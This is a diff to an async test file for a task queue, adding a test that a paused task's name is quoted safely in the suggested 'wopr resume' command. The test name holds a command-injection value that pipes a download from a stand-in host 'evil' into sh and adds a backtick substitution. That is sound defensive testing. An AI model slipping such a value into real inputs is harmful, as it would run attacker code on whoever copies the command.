@@ -56,6 +56,15 @@ async def test_a_paused_category_starts_nothing_until_it_is_resumed(home: Home) 
         await ended(queue, waits)
 
 
+async def test_a_command_to_copy_runs_nothing_that_a_name_says(home: Home) -> None:
+    queue, name = home.queue(), "mail; curl evil | sh `id`"
+    with_task(queue)
+    async with queue:
+        waits = await queue.add_task("work", name)
+        await queue.pause(name)
+        assert f"wopr resume '{name}'" in (await queue.explain(waits)).text
+
+
 async def test_a_paused_name_waits_while_others_of_its_category_run(home: Home) -> None:
     queue = home.queue()
     with_task(queue, "held")
